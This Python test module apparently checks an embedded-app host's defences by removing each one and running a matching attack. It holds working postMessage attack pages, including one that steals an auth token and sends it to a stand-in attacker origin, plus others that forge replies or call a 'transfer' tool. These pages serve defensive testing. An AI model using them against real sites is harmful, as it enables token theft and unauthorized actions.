"""`createAppHost`: another site in the app's frame or beside it, and what an app takes without asking."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from typing import Any

from playwright.async_api import Error

from tests.attacks.app_site import AppSite
from tests.attacks.attack import Attack, Driver
from tests.attacks.scene import Attempt, Scene
from tests.support.controls import Control, Edit

KIND = "createAppHost"
PATIENCE = 6.0
"""Seconds for one app to load, to be refused, or to be robbed."""

HOLDER, LOADED, HOST, CHILD = (f"host/{name}.js" for name in ("app-holder", "loaded-app", "app-host", "app-child"))


# Controls

FRAME_SRC = Edit(HOLDER, 'content="frame-src ${url.origin}"', 'content=""')
TO_ANYBODY = Edit(LOADED, 'this.origin === "null" ? "*" : this.origin', '"*"')
MOVED = Edit(LOADED, "moved: () => this.#fail(", "moved: () => void (")
SOURCE = "source === null || source !== this.frame.contentWindow || "
NO_FRAME_SRC = Control(
    "app-without-frame-src", "a policy that keeps other origins out of an app's frame", (), (FRAME_SRC,)
)
NO_ADDRESS = Control(
    "app-without-address",
    "that policy, and messages that are addressed to the app's origin",
    (),
    (FRAME_SRC, TO_ANYBODY),
)
MAY_LEAVE = Control(
    "app-may-leave", "that policy, and a look at what loads into the frame later", (), (FRAME_SRC, MOVED)
)
ANY_WINDOW = Control("app-any-window", "a look at the window that speaks", (), (Edit(LOADED, SOURCE, ""),))
GUESSED_IDS = Control(
    "app-guessed-ids",
    "a look at the window that speaks, and ids that nobody can guess",
    (),
    (
        Edit(LOADED, SOURCE, ""),
        Edit(
            "rpc.js",
            "{ id = generateRequestId(), timeout",
            "{ id = /** @type {any} */ (self).count = (/** @type {any} */ (self).count ?? 0) + 1, timeout",
        ),
    ),
)
ANYBODY = Control(
    "app-anybody",
    "a look at the window that speaks and at its origin",
    (),
    (Edit(LOADED, f"if ({SOURCE}origin !== this.origin) return;", ""),),
)
SILENCE = Control(
    "app-silence-is-yes",
    "questions that need a yes",
    (),
    (Edit(HOST, "resolve, wait, false)", "resolve, wait, true)"),),
)
NOBODY_ASKED = Control(
    "app-nobody-asked",
    "permissions that somebody has to give",
    (),
    (Edit(HOST, "!!onPermissionRequest && await", "!onPermissionRequest || await"),),
)
ANY_EMBEDDER = Control(
    "app-any-embedder",
    "apps that name the pages which may embed them",
    (),
    (Edit(CHILD, "source !== parent || !this.options.allowedOrigins.includes(origin)", "source !== parent"),),
)


# Pages

THIEF = """<!doctype html><script>
const tell = (what) => fetch("/won?" + encodeURIComponent(what), { mode: "no-cors" });
const ask = (id, method, params) => parent.postMessage({ jsonrpc: "2.0", id, method, params }, "*");
addEventListener("message", ({ data }) => {
  if (WANT === "token" && data?.payload?.authContext) tell("the token: " + data.payload.authContext.token);
  if (WANT === "tools" && data?.id === "a") ask("b", "tools/call", { name: "transfer", arguments: {} });
  if (WANT === "tools" && data?.id === "b" && data.result) tell("a tool was called");
});
ask("a", "ui/initialize", {});
</script>"""

VIEW = """<!doctype html><script>
parent.postMessage({ jsonrpc: "2.0", id: "hello", method: "ui/initialize", params: {} }, "*");
addEventListener("message", ({ data }) => {
  if (data?.id === "hello" && location.hash) location.href = decodeURIComponent(location.hash.slice(1));
});
</script>"""

SIBLING = """<!doctype html><script>
const call = { jsonrpc: "2.0", id: "x", method: "tools/call", params: { name: "NAME", arguments: {} } };
const speak = (frame, depth) => {
  frame.postMessage(call, "*");
  for (let i = 0; depth && i < frame.length; i++) speak(frame[i], depth - 1);
};
setInterval(() => speak(top, 2), 50);
</script>"""

CHILD_PAGE = """<!doctype html><script type="module">
import { createAppChild } from "/web/host/app-child.js";
const onRequest = (method) => ({ serverInfo: { name: "app" }, method });
const child = createAppChild({ allowedOrigins: [ALLOWED], onRequest });
child.ready();
const tell = (what) => fetch("/won?" + encodeURIComponent(what), { mode: "no-cors" });
if (WANT === "permission" && await child.requestPermission("notes")) tell("the permission");
const call = { name: "transfer", arguments: {} };
if (WANT === "call") child.request("tools/call", call).then(() => tell("a tool was called"));
</script>"""

FORGER = """<!doctype html><script>
const result = { content: [{ type: "text", text: "forged" }] };
const speak = (frame, depth) => {
  for (let id = 1; id < 20; id++) frame.postMessage({ type: "mcp:response", payload: { id, result } }, "*");
  for (let i = 0; depth && i < frame.length; i++) speak(frame[i], depth - 1);
};
setInterval(() => speak(top, 1), 200);
</script>"""

SLOW_PAGE = """<!doctype html><script type="module">
import { createAppChild } from "/web/host/app-child.js";
const never = new Promise(() => {});
const onRequest = (method) => method === "initialize" ? { serverInfo: { name: "app" } } : never;
createAppChild({ allowedOrigins: [ALLOWED], onRequest }).ready();
</script>"""

EMBEDDER = """<!doctype html><iframe src="APP/child"></iframe><script>
const frame = document.querySelector("iframe");
addEventListener("message", ({ data }) => {
  if (data?.type === "mcp:response") fetch("/won?answered", { mode: "no-cors" });
});
setInterval(() => frame.contentWindow.postMessage(
  { type: "mcp:request", payload: { id: 1, method: "secrets", params: {} } }, "*"), 50);
</script>"""

LOAD = """async ([src, options, sibling, name]) => {
  const { createAppHost } = await import("/cloche/mcp-app.js");
  const place = document.body.appendChild(document.createElement("div"));
  const asks = { hitl: { confirmationTimeout: 300, onConfirmationRequired: () => new Promise(() => {}) },
    onPermissionRequest: () => new Promise(() => {}) };
  const host = createAppHost({
    container: place, allowedOrigins: [new URL(src).origin], connectionTimeout: 3000,
    authContext: { token: "of " + name }, onToolCall: (tool) => (window.called?.(tool), { content: [] }),
    ...(options.asks === "all" && asks), ...(options.sandbox && { sandbox: options.sandbox }),
  });
  if (sibling) {
    const frame = document.createElement("iframe");
    if (!options.sandbox) frame.sandbox = "allow-scripts";
    place.append(Object.assign(frame, { src: sibling }));
  }
  const app = await host.load({ src, id: name }).catch(() => null);
  if (options.asks === "app") {
    app?.callTool("slow").then(({ content: [{ text }] }) => text === "forged" && window.called(name), () => null);
  }
}"""

NAMED = ["allow-scripts", "allow-same-origin"]


def app(
    path: str,
    pages: dict[str, str],
    *,
    want: str = "",
    sibling: str = "",
    options: dict[str, Any] | None = None,
) -> Driver:
    """Load an app on the product's page, with a stranger's frame beside it, and see whether the stranger wins."""

    async def drive(scene: Scene, attempt: Attempt) -> None:
        name = attempt.attack.name
        scene.on_told("called", lambda tool: attempt.win(f"called {tool}") if tool == name else None)
        filled: dict[str, str] = {}
        async with AppSite(scene.house, filled, attempt.win) as site:
            fill = {"WANT": json.dumps(want), "NAME": name, "ALLOWED": json.dumps(scene.house.url)}
            words = re.compile("|".join(fill))
            filled |= {page: words.sub(lambda found: fill[found[0]], text) for page, text in pages.items()}
            address = site.honest + path.replace("EVIL", site.strange)
            beside = sibling.replace("EVIL", site.strange)
            loading = scene.page.evaluate(LOAD, [address, options or {}, beside, name])
            await settled(attempt, loading)

    return drive


async def settled(attempt: Attempt, loading: Any) -> None:
    """Wait until it has won, or until it has had time enough to."""
    running = asyncio.ensure_future(loading)
    with contextlib.suppress(TimeoutError, Error):
        await asyncio.wait_for(asyncio.shield(running), PATIENCE)
        await asyncio.wait_for(attempt.won.wait(), 1.0)
    running.cancel()
    with contextlib.suppress(asyncio.CancelledError, Error):
        await running


async def embedded(scene: Scene, attempt: Attempt) -> None:
    """A stranger's page has the app in a frame, and asks it."""
    pages = {"/child": CHILD_PAGE.replace("WANT", '""').replace("ALLOWED", json.dumps(scene.house.url))}
    async with AppSite(scene.house, pages, attempt.win) as site:
        pages["/embedder"] = EMBEDDER.replace("APP", site.honest)
        page = await scene.page.context.new_page()
        try:
            await page.goto(f"{site.strange}/embedder")
            await settled(attempt, page.wait_for_load_state())
        finally:
            await page.close()


def attack(name: str, case: str, control: Control, driver: Driver) -> Attack:
    nothing = {"script": "declarations", "setup": {"how": "nothing"}}
    return Attack(name=name, kind=KIND, case=case, control=control, driver=driver, **nothing)  # type: ignore[arg-type]


REDIRECT = "/go?to=EVIL/thief"
ASKS = {"asks": "all"}

ATTACKS = [
    attack("app-redirect-token", "W10", NO_FRAME_SRC, app(REDIRECT, {"/thief": THIEF}, want="token")),
    attack("app-redirect-tools", "W10", NO_FRAME_SRC, app(REDIRECT, {"/thief": THIEF}, want="tools")),
    attack(
        "app-redirect-named",
        "W10",
        NO_ADDRESS,
        app(REDIRECT, {"/thief": THIEF}, want="token", options={"sandbox": NAMED}),
    ),
    attack(
        "app-leaves-for-another",
        "W10",
        MAY_LEAVE,
        app("/view#EVIL/thief", {"/view": VIEW, "/thief": THIEF}, want="tools"),
    ),
    attack(
        "app-null-origin",
        "W07",
        ANY_WINDOW,
        app("/view", {"/view": VIEW, "/sibling": SIBLING}, sibling="EVIL/sibling"),
    ),
    attack(
        "app-wrong-window",
        "W08",
        ANYBODY,
        app("/view", {"/view": VIEW, "/sibling": SIBLING}, sibling="EVIL/sibling", options={"sandbox": NAMED}),
    ),
    attack(
        "app-forged-answer",
        "W11",
        GUESSED_IDS,
        app("/slow", {"/slow": SLOW_PAGE, "/forger": FORGER}, sibling="EVIL/forger", options={"asks": "app"}),
    ),
    attack(
        "app-permission-by-silence",
        "W06",
        SILENCE,
        app("/child", {"/child": CHILD_PAGE}, want="permission", options=ASKS),
    ),
    attack("app-call-by-silence", "W16", SILENCE, app("/child", {"/child": CHILD_PAGE}, want="call", options=ASKS)),
    attack("app-permission-unasked", "W06", NOBODY_ASKED, app("/child", {"/child": CHILD_PAGE}, want="permission")),
    attack("app-embedded-by-a-stranger", "W20", ANY_EMBEDDER, embedded),
]
